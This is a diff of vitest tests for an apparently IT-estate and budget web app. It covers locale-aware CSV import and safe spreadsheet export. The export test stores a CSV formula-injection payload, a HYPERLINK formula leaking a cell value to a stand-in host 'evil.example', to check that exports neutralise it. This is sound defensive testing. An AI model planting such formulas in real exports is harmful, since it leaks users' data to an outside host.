@@ -1,6 +1,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import ExcelJS from 'exceljs';
+import iconv from 'iconv-lite';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startTestApp, type Caller, type TestApp } from '../support/app.js';
 import { DEMO, seedDemoWorld } from '../support/demo.js';
@@ -264,5 +265,52 @@ describe('the client\'s words and replacement costs', () => {
     ]));
     const list = await systems(base);
     expect([byName(list, 'With cost').replacementCost, byName(list, 'Without cost').replacementCost, byName(list, 'Own replacement').replacementCost]).toEqual([900, 1500, 1100]);
+  });
+});
+
+describe('the budget\'s actuals import reads any locale too', () => {
+  it('a German ledger: Windows-1252, semicolons, dotted dates and decimal commas, credits in parentheses', async () => {
+    const base = await newClient('Rhein Buchhaltung', 'EUR');
+    const ledger = 'Category;Vendor;Amount;Date\r\nSoftware;M\u00fcller Software GmbH;1.234,50 \u20ac;15.01.2024\r\nSoftware;B\u00fcro AG;(99,90);03.02.2024\r\n';
+    const file = iconv.encode(ledger, 'windows-1252');
+    const res = await advisor.request<Report>('POST', `${base}/budget/actuals/import?dryRun=true`, file, { 'content-type': 'text/csv' });
+    expect(res.status, JSON.stringify(res.body)).toBe(200);
+    expect(res.body.reading).toMatchObject({ encoding: 'windows-1252', decimal: ',', dateFormat: 'DMY' });
+    const cells = res.body.sample[1]!.cells;
+    expect(cells.find((c) => c.field === 'amount')).toMatchObject({ raw: '(99,90)', read: '-99.9' });
+    expect(cells.find((c) => c.field === 'date')).toMatchObject({ raw: '03.02.2024', read: '3 February 2024' });
+    expect(res.body.sample[0]!.cells.find((c) => c.field === 'vendor')!.raw).toBe('M\u00fcller Software GmbH');
+  });
+});
+
+describe('exports for spreadsheets', () => {
+  it('neutralises formula cells, starts CSV with a BOM, writes a workbook, and reads its own export back unchanged', async () => {
+    const base = await newClient('Exports');
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    expect((await advisor.post(`${base}/estate/systems`, { name: evil, type: 'hardware', notes: '+1+1', owner: '@admin' })).status).toBe(201);
+    const csv = await advisor.download(`${base}/estate/export/systems`);
+    expect(csv.status).toBe(200);
+    expect(csv.headers['content-type']).toMatch(/text\/csv/);
+    const text = csv.body.toString('utf8');
+    expect(text.startsWith('\uFEFFAsset Tag,Name,')).toBe(true);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
+    expect(text).toContain(",'@admin,");
+    expect(text).toContain(",'+1+1");
+    expect(text).not.toMatch(/,=HYPERLINK/);
+
+    const again = await upload(base, csv.body, '?dryRun=true');
+    expect(again.status, JSON.stringify(again.body)).toBe(200);
+    expect(again.body).toMatchObject({ created: 0, rejected: 0 });
+
+    const xlsx = await advisor.download(`${base}/estate/export/systems?format=xlsx`);
+    expect(xlsx.status).toBe(200);
+    expect(xlsx.headers['content-disposition']).toMatch(/systems-\d{4}-\d{2}-\d{2}\.xlsx/);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(xlsx.body as unknown as ArrayBuffer);
+    const sheet = wb.worksheets[0]!;
+    expect(sheet.getRow(1).getCell(2).value).toBe('Name');
+    // In a workbook the text is a string cell, never a formula.
+    expect(sheet.getRow(2).getCell(2).value).toBe(evil);
+    expect(sheet.getRow(2).getCell(2).formula).toBeUndefined();
   });
 });
